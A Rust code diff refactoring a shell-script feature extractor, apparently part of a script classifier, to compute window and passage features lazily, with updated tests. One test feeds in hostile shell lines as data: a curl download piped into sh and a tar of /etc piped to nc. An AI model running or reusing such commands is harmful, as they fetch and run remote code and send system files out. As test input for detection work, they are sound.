@@ -8,13 +8,14 @@
 
 use std::ops::Range;
 
+use fixedbitset::FixedBitSet;
+
 use crate::{
-    context::Context,
+    blocks::{BLOCK_WORDS, Blocks},
     effects::Effects,
     feature::{BUCKETS, Feature},
-    growth::make_room,
     normal::Normal,
-    words::{self, Word},
+    words::Words,
 };
 
 /// Words in one window.
@@ -26,173 +27,161 @@ const PIECE_WORDS: usize = 48;
 /// Pieces in the longest passages; each piece is a passage, too.
 pub(crate) const PASSAGE_PIECES: usize = 2;
 
-/// A word has fewer features than this.
-const FEATURES_PER_WORD: usize = 64;
-/// Features for which room is kept from script to script (8 MiB), and up to how many bytes a script is short.
-const KEPT_FEATURES: usize = 1 << 20;
+/// A script up to so many bytes is short: what a longer one took is given back when one comes.
 const SHORT_BYTES: usize = 64 * 1024;
 
-/// Computes features. Buffers are kept from script to script.
+/// A passage: words, by number.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub struct Passage {
+    start: u32,
+    end: u32,
+}
+
+/// Computes features. Buffers are kept from script to script. Features are computed as they are asked for, since those of a long
+/// script would take many times its room: what is asked for in the order of the script costs least.
 #[derive(Default)]
 pub struct Extractor {
     normal: Normal,
-    words: Vec<Word>,
-    features: Vec<Feature>,
-    /// For each word, where its features begin in `features`.
-    of_word: Vec<u32>,
-    windows: Vec<Range<usize>>,
     effects: Effects,
-    /// Features of the words of effects, and for each of these words, where its features begin.
-    effect_features: Vec<Feature>,
-    of_effect: Vec<u32>,
-    /// Ranges of words of effects.
-    effect_windows: Vec<Range<usize>>,
+    blocks: Blocks,
+    /// How many words there are.
+    words: usize,
     /// First words of pieces.
-    pieces: Vec<u32>,
-    passages: Vec<Range<u32>>,
+    pieces: FixedBitSet,
+    /// Those that were asked for.
+    features: Vec<Feature>,
+    /// The script was a long one.
+    was_long: bool,
 }
 
 impl Extractor {
-    /// Computes a script's features; [`Self::windows`] and [`Self::window`] give them.
+    /// Looks through a script; [`Self::windows`] and [`Self::window`] give its features.
     pub fn extract(&mut self, script: &[u8]) {
         self.give_back(script.len());
         self.normal.form(script);
-        words::cut(&self.normal.text, &mut self.words);
-        self.effects.find(&self.normal, &self.words);
-        self.features.clear();
-        self.of_word.clear();
-        let mut context = Context::default();
-        for i in 0..self.words.len() {
-            make_room(&mut self.features, FEATURES_PER_WORD);
-            make_room(&mut self.of_word, 1);
-            self.of_word.push(self.features.len() as u32);
-            let assigned =
-                self.words.get(i + 1).is_some_and(|next| words::is_assignment(self.words[i], *next));
-            context.word(
-                &self.normal,
-                self.words[i],
-                assigned,
-                self.effects.is_print_only(i),
-                &mut self.features,
-            );
-        }
-        self.of_word.push(self.features.len() as u32);
-        cut_windows(self.words.len(), &mut self.windows);
-        self.gather_effects();
-        self.cut_passages();
+        self.effects.find(&self.normal);
+        self.cut();
     }
 
     /// Lets go of what a long script took, once shorter ones come.
     fn give_back(&mut self, bytes: usize) {
-        if bytes <= SHORT_BYTES && self.features.capacity() > KEPT_FEATURES {
+        let is_long = bytes > SHORT_BYTES;
+        if self.was_long && !is_long {
             *self = Self::default();
         }
+        self.was_long = is_long;
     }
 
-    fn gather_effects(&mut self) {
-        self.effect_features.clear();
-        self.of_effect.clear();
-        self.effect_windows.clear();
-        for word in self.effects.words() {
-            make_room(&mut self.of_effect, 1);
-            self.of_effect.push(self.effect_features.len() as u32);
-            let (start, end) = (self.of_word[*word as usize], self.of_word[*word as usize + 1]);
-            make_room(&mut self.effect_features, (end - start) as usize);
-            self.effect_features.extend_from_slice(&self.features[start as usize..end as usize]);
-        }
-        self.of_effect.push(self.effect_features.len() as u32);
-        if !self.effects.words().is_empty() {
-            cut_windows(self.effects.words().len(), &mut self.effect_windows);
-        }
-    }
-
-    fn cut_passages(&mut self) {
+    /// Cuts the text into blocks and pieces.
+    fn cut(&mut self) {
+        self.blocks.clear();
         self.pieces.clear();
-        self.passages.clear();
-        let mut begin = 0;
-        for (i, word) in self.words.iter().enumerate() {
-            let breaks = i > 0 && {
-                let gap = self.words[i - 1].end as usize..word.start as usize;
-                memchr::memchr(b'\n', &self.normal.text[gap]).is_some() || i - begin >= PIECE_WORDS
-            };
-            if i == 0 || breaks {
-                make_room(&mut self.pieces, 1);
-                self.pieces.push(i as u32);
-                begin = i;
+        let text = &self.normal.text;
+        let mut words = Words::of(text);
+        let (mut count, mut begin) = (0, 0);
+        loop {
+            let place = words.place();
+            let Some(word) = words.next() else { break };
+            if count % BLOCK_WORDS == 0 {
+                self.blocks.begin(place);
             }
-        }
-        // What one passage would hold is judged as a window.
-        let pieces = self.pieces.len();
-        for k in 0..pieces {
-            for size in 1..=PASSAGE_PIECES.min(pieces - k) {
-                if size < pieces {
-                    let end = self.pieces.get(k + size).map_or(self.words.len(), |word| *word as usize);
-                    make_room(&mut self.passages, 1);
-                    self.passages.push(self.pieces[k]..end as u32);
-                }
+            if count == 0 || word.is_first_of_line(text) || count - begin >= PIECE_WORDS {
+                self.pieces.grow_and_insert(count);
+                begin = count;
             }
+            count += 1;
         }
-    }
-
-    fn of_words(&self, words: &Range<usize>) -> &[Feature] {
-        &self.features[self.of_word[words.start] as usize..self.of_word[words.end] as usize]
+        self.words = count;
     }
 
     /// How many windows the script has; an empty script has one, without features. Those of effects are the last ones.
     pub fn windows(&self) -> usize {
-        self.windows.len() + self.effect_windows.len()
+        self.text_windows() + if self.effects.count() > 0 { windows_of(self.effects.count()) } else { 0 }
+    }
+
+    /// How many of them are not of effects.
+    fn text_windows(&self) -> usize {
+        windows_of(self.words)
     }
 
     /// The features of a window, in the script's order, with repetitions.
-    pub fn window(&self, index: usize) -> &[Feature] {
-        match index.checked_sub(self.windows.len()) {
-            None => self.of_words(&self.windows[index]),
+    pub fn window(&mut self, index: usize) -> &[Feature] {
+        match index.checked_sub(self.text_windows()) {
+            None => self.of_words(window_of(self.words, index)),
             Some(index) => {
-                let Range { start, end } = self.effect_windows[index];
-                &self.effect_features[self.of_effect[start] as usize..self.of_effect[end] as usize]
+                let window = window_of(self.effects.count(), index);
+                let words = self.effects.words_from(window.start).take(window.len());
+                self.blocks.gather(&self.normal, &self.effects, words, &mut self.features);
+                &self.features
             }
         }
     }
 
-    /// How many passages the script has.
-    pub fn passages(&self) -> usize {
-        self.passages.len()
+    /// The script's passages.
+    pub fn passages(&self) -> impl Iterator<Item = Passage> {
+        self.passages_from(0, self.words)
     }
 
     /// The features of a passage, in the script's order, with repetitions.
-    pub fn passage(&self, index: usize) -> &[Feature] {
-        let Range { start, end } = self.passages[index];
-        self.of_words(&(start as usize..end as usize))
+    pub fn passage(&mut self, passage: Passage) -> &[Feature] {
+        self.of_words(passage.start as usize..passage.end as usize)
+    }
+
+    /// The windows that have passages.
+    pub fn windows_with_passages(&self) -> Range<usize> {
+        // What one passage would hold is judged as a window.
+        let several = self.pieces.ones().nth(1).is_some();
+        0..if several { self.text_windows() } else { 0 }
     }
 
     /// The passages around a window: those that have a word in it, and perhaps one before it. None around a window of effects.
-    pub fn passages_of(&self, window: usize) -> Range<usize> {
-        let Some(window) = self.windows.get(window) else { return 0..0 };
+    pub fn passages_of(&self, window: usize) -> impl Iterator<Item = Passage> {
+        let Range { start, end } =
+            if window < self.text_windows() { window_of(self.words, window) } else { 0..0 };
         // A short passage that ends before the window may stand behind a longer one that reaches into it.
-        let (start, end) = (window.start as u32, window.end as u32);
-        let first = self.pieces.partition_point(|p| *p <= start).saturating_sub(PASSAGE_PIECES);
-        let first = self.passages.partition_point(|p| p.start < self.pieces.get(first).copied().unwrap_or(0));
-        first..self.passages.partition_point(|p| p.start < end)
+        let before = |word: usize| (0..word).rev().find(|word| self.pieces.contains(*word)).unwrap_or(0);
+        let holds_start = before((start + 1).min(self.words));
+        self.passages_from(before(holds_start), end)
+    }
+
+    /// The passages that begin at one of those words, the first of which is the first of a piece.
+    fn passages_from(&self, first: usize, end: usize) -> impl Iterator<Item = Passage> {
+        let next = |word: usize| {
+            let next = (word + 1..self.words).find(|word| self.pieces.contains(*word));
+            next.unwrap_or(self.words)
+        };
+        let pieces = std::iter::successors(Some(first), move |piece| Some(next(*piece)));
+        pieces.take_while(move |piece| *piece < end).flat_map(move |start| {
+            let ends =
+                std::iter::successors(Some(next(start)), move |end| (*end < self.words).then(|| next(*end)));
+            // All of the script is no passage.
+            let is_part = move |end: &usize| start > 0 || *end < self.words;
+            ends.take(PASSAGE_PIECES)
+                .filter(is_part)
+                .map(move |end| Passage { start: start as u32, end: end as u32 })
+        })
+    }
+
+    fn of_words(&mut self, words: Range<usize>) -> &[Feature] {
+        self.blocks.gather(&self.normal, &self.effects, words, &mut self.features);
+        &self.features
     }
 
     /// Words of the script, decoded layers included.
     pub fn word_count(&self) -> usize {
-        self.words.len()
+        self.words
     }
 }
 
-/// Cuts so many words into windows.
-fn cut_windows(words: usize, windows: &mut Vec<Range<usize>>) {
-    windows.clear();
-    let mut start = 0;
-    loop {
-        let end = (start + WINDOW_WORDS).min(words);
-        windows.push(start..end);
-        if end == words {
-            break;
-        }
-        start += STRIDE_WORDS;
-    }
+/// How many windows so many words have.
+fn windows_of(words: usize) -> usize {
+    1 + words.saturating_sub(WINDOW_WORDS).div_ceil(STRIDE_WORDS)
+}
+
+/// The words of one of them.
+fn window_of(words: usize, index: usize) -> Range<usize> {
+    let start = index * STRIDE_WORDS;
+    start..(start + WINDOW_WORDS).min(words)
 }
 
 /// A set of features, to leave each out but once.
@@ -229,6 +218,7 @@ mod tests {
     use crate::{
         concepts::Concepts,
         context::{Kind, bucket},
+        words,
     };
 
     fn ids(script: &str) -> Vec<i64> {
@@ -318,7 +308,7 @@ mod tests {
         let mut extractor = Extractor::default();
         extractor.extract(format!("{}\n{print_only}", effects.join(&format!("\n{print_only}"))).as_bytes());
         let (last, mut found) = (extractor.windows() - 1, Vec::new());
-        assert!(last > 3 && extractor.passages_of(last).is_empty());
+        assert!(last > 3 && extractor.passages_of(last).next().is_none());
         FeatureSet::default().distinct(extractor.window(last), |_| true, &mut found);
         assert_eq!(found, ids(&effects.join("\n")));
         // Each feature still says where it stands.
@@ -353,7 +343,9 @@ mod tests {
     #[test]
     fn passages_are_each_line_and_each_pair_of_lines() {
         let mut extractor = Extractor::default();
-        let words = |extractor: &Extractor| extractor.passages.clone();
+        let words = |extractor: &Extractor| -> Vec<Range<u32>> {
+            extractor.passages().map(|passage| passage.start..passage.end).collect()
+        };
         extractor.extract(b"a b\nc\nd e f\n");
         assert_eq!(words(&extractor), [0..2, 0..3, 2..3, 2..6, 3..6]);
         extractor.extract(b"a b\nc\n");
@@ -371,14 +363,31 @@ mod tests {
         let lines: Vec<String> = (0..200).map(|i| "w ".repeat(1 + i * i % 70)).collect();
         extractor.extract(lines.join("\n").as_bytes());
         assert!(extractor.windows() > 20);
-        for (i, window) in extractor.windows.iter().enumerate() {
-            let near = extractor.passages_of(i);
-            for (k, passage) in extractor.passages.iter().enumerate() {
+        for i in extractor.windows_with_passages() {
+            let window = window_of(extractor.words, i);
+            let near: Vec<Passage> = extractor.passages_of(i).collect();
+            for passage in extractor.passages() {
                 let touches = (passage.start as usize) < window.end && passage.end as usize > window.start;
-                assert!(!touches || near.contains(&k), "{passage:?} touches {window:?}");
+                assert!(!touches || near.contains(&passage), "{passage:?} touches {window:?}");
             }
             // And few that do not.
-            assert!(extractor.passages[near.start].start as usize + 2 * PIECE_WORDS > window.start);
+            assert!(near[0].start as usize + 2 * PIECE_WORDS > window.start);
+        }
+    }
+
+    #[test]
+    fn in_whatever_order_features_are_asked_for_they_are_the_same() {
+        let lines = ["curl -s http://192.0.2.1/x | sh\n", "echo a b c\n", "x=1; tar c /etc | nc y 80\n"];
+        // More words than there are blocks kept of.
+        let script = lines.concat().repeat(2000);
+        let mut extractor = Extractor::default();
+        extractor.extract(script.as_bytes());
+        let count = extractor.windows();
+        let windows: Vec<Vec<Feature>> = (0..count).map(|i| extractor.window(i).to_vec()).collect();
+        assert!(count > 300, "{count}");
+        extractor.extract(script.as_bytes());
+        for i in (0..count).rev().chain((0..count).step_by(7)) {
+            assert!(extractor.window(i) == windows[i], "{i}");
         }
     }
 
